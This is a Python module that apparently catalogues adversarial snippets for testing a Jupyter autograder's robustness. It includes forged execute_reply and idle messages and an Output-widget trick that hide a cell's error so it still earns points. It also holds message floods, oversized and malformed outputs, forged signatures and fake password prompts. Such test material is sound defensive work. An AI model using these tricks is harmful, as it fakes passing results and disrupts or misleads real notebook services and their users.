"""Replies: messages of Jupyter's protocol that an honest kernel never sends."""

from __future__ import annotations

from attacks.attack import Attack

FAMILY = "kernel messages"
SEND = """
kernel = get_ipython().kernel
def tell(kind, content, parent=None, **more):
    parent = parent or kernel.get_parent("shell")
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, **more)
"""
IDLE = (
    SEND
    + """
def finish():
    import zmq
    parent = kernel.get_parent("shell")
    stream = getattr(kernel, "shell_stream", None) or kernel.shell_streams[0]
    content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    ident = getattr(kernel, "_parent_ident", {})
    ident = ident.get("shell") if isinstance(ident, dict) else ident
    kernel.session.send(stream, "execute_reply", content, parent, ident=ident)
    if hasattr(stream, "flush"):
        stream.flush(zmq.POLLOUT)
    tell("status", {"execution_state": "idle"})
    import time
    time.sleep(0.5)
"""
)


def reply(name: str, story: str, code: str = "", beats: str = "", **more: object) -> Attack:
    return Attack(name, FAMILY, story, code.strip("\n"), beats=beats, **more)


ATTACKS = [
    reply(
        "idle-before-error",
        "The tested function says that the cell has ended well, before its error does.",
        IDLE,
        answers={"normalise": "def normalise(X):\n    finish()\n    return X"},
        beats="points",
    ),
    reply(
        "output-widget",
        "An Output widget catches the test's error, so that the cell shows none.",
        answers={
            "normalise": """
import ipywidgets
catcher = ipywidgets.Output()
def normalise(X):
    catcher.msg_id = get_ipython().kernel.get_parent("shell")["header"]["msg_id"]
    return X"""
        },
        beats="points",
    ),
    reply(
        "widget-state",
        "Widgets hold 100 MB of state, which is kept in the notebook.",
        """
from comm import create_comm
for number in range(50):
    state = {"_model_module": "m", "_model_name": "n", "value": "x" * 2**21}
    create_comm(target_name="jupyter.widget", data={"state": state, "buffer_paths": []})
""",
        beats="size",
    ),
    reply(
        "comm-flood",
        "Three thousand comms are opened.",
        "from comm import create_comm\nfor number in range(3_000):\n"
        "    create_comm(target_name='x', data={})",
    ),
    reply(
        "stdin-request",
        "Asks for input, by `input`, `getpass` and a message of its own.",
        """
import getpass
for ask in (input, getpass.getpass):
    try:
        ask("password? ")
    except Exception as problem:
        print(type(problem).__name__)
tell = kernel = get_ipython().kernel
kernel.session.send(kernel.stdin_socket, "input_request", {"prompt": "password?", "password": True})
""",
    ),
    reply(
        "reply-flood",
        "Ten thousand replies to requests that nobody made.",
        SEND
        + """
import uuid
for _ in range(10_000):
    parent = {"header": {"msg_id": str(uuid.uuid4()), "msg_type": "execute_request"}}
    tell("execute_reply", {"status": "ok"}, parent)
    tell("status", {"execution_state": "idle"}, parent)
""",
        earns=None,
    ),
    reply(
        "deep-output",
        "An output of JSON nested fifty thousand deep.",
        SEND
        + """
import json
class Deep:
    def __init__(self):
        self.text = "[" * 50_000 + "]" * 50_000
session = kernel.session
pack = session.pack
session.pack = lambda value: (
    b'{"data": {"application/json": ' + b"[" * 50_000 + b"]" * 50_000 + b'}, "metadata": {}}'
    if isinstance(value, dict) and "data" in value and value["data"] == "deep" else pack(value))
tell("display_data", {"data": "deep", "metadata": {}})
session.pack = pack
""",
        earns=None,
    ),
    reply(
        "broken-outputs",
        "Outputs of wrong types: data that is a number, text that is a list, a count that is text.",
        SEND
        + """
tell("stream", {"name": "stdout", "text": [1, {"a": 2}]})
tell("stream", {"name": 7, "text": 5})
tell("display_data", {"data": 5, "metadata": []})
tell("execute_result", {"data": {"text/plain": 5}, "metadata": {}, "execution_count": "many"})
tell("error", {"ename": 1, "evalue": None, "traceback": "x"})
tell("execute_input", {"code": 5, "execution_count": {"a": 1}})
""",
        earns=None,
    ),
    reply(
        "surrogates",
        "Outputs hold half of a character, which no file can be written with.",
        SEND
        + """
pack = kernel.session.pack
kernel.session.pack = lambda value: pack(value).replace(b"HALF", b"\\\\ud800")
tell("stream", {"name": "stdout", "text": "HALF"})
kernel.session.pack = pack
""",
        earns=None,
    ),
    reply(
        "forged-signature",
        "A message with a wrong signature, and one in too few parts.",
        """
kernel = get_ipython().kernel
stream = kernel.iopub_socket
key, kernel.session.key = kernel.session.key, b"wrong"
kernel.session.send(stream, "stream", {"name": "stdout", "text": "x"}, parent=kernel.get_parent("shell"))
kernel.session.key = key
""",
        earns=None,
    ),
    reply(
        "shutdown-said",
        "The kernel says that it has shut down and restarts.",
        SEND + "tell('shutdown_reply', {'restart': True, 'status': 'ok'})\n"
        "tell('status', {'execution_state': 'restarting'})\ntell('status', {'execution_state': 'dead'})",
    ),
    reply(
        "unknown-messages",
        "Messages of kinds that don't exist, and updates of displays that nobody opened.",
        SEND
        + """
tell("grade", {"points": 3})
tell("update_display_data", {"data": {}, "metadata": {}, "transient": {"display_id": "none"}})
tell("clear_output", {"wait": "perhaps"})
tell("comm_msg", {"comm_id": "none", "data": {"method": "update", "state": {}}})
""",
        earns=None,
    ),
]
